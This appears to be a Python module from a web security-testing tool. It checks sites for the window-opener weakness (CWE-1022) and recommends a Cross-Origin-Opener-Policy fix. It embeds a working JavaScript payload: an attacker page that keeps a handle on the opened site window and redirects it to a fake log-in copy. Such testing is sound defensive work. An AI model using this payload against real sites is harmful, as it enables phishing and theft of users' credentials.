"""The attacker's page opens the site in a window and keeps hold of it.

With the handle it counts the page's frames, follows where it goes and leads it elsewhere, to a copy
of the log-in. Oracle: the loaded page's window is led to the attacker's copy.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

from ringfence.prove.aims import answers
from ringfence.prove.stage import Attack, Outcome, Result, Target, new_marker, one_by_one

if TYPE_CHECKING:
    from ringfence.prove.discover.survey import Survey
    from ringfence.prove.stage import Stage

__all__ = ["ATTACK"]


def _find(survey: Survey) -> tuple[Target, ...] | str:
    kinds: dict[str, Target] = {}
    for page in survey.html_pages():
        if page.visitor != "anonymous":
            label = f"window of {page.path}"
            kinds.setdefault(
                page.pattern, Target(page.path, label, visitor=page.visitor, place=page.place)
            )
    # What opens a window is the site's, not the page's: a few pages tell.
    return tuple(kinds.values())[:_PAGES] or "no page was reached with a session"


_PAGES = 5


def _strike(stage: Stage, target: Target) -> Result:
    name = new_marker()
    collect = json.dumps(stage.collect_path(name))
    copy = stage.serve(
        f"""<!doctype html><title>Log in</title><script>
        fetch({collect}, {{method: "POST", body: "led"}});
        </script>"""
    )
    page = f"""<!doctype html><title>Cats</title><script>
        const held = open({json.dumps(stage.url(target.path))});
        let led = false;
        const timer = setInterval(() => {{
            if (!held || held.closed) {{
                clearInterval(timer);
                fetch({collect}, {{method: "POST", body: "closed"}});
                return;
            }}
            // Another origin's document is there once its address may no longer be read.
            try {{ held.location.href; }} catch {{
                if (!led) held.location = {json.dumps(copy)};
                led = true;
            }}
        }}, 5);
        </script>"""
    visit = stage.visit(stage.serve(page, name=name))
    told = stage.collected(name)
    if told is None:
        why = visit.error or "the attacker's page never reported"
        return Result(Outcome.INCONCLUSIVE, "timeout", why)
    if told == "led":
        return Result(Outcome.SUCCEEDED, "held", "the attacker's page led the window elsewhere")
    return Result(Outcome.STOPPED, "cut off", "the handle is cut off from the page")


ATTACK = Attack(
    name="opener",
    title="a window of the site's that another site keeps hold of",
    cwe="CWE-1022",
    stopped_by=("isolation",),
    find=_find,
    strike=one_by_one(_strike),
    use=answers,
    fix="say `Cross-Origin-Opener-Policy: same-origin`",
)
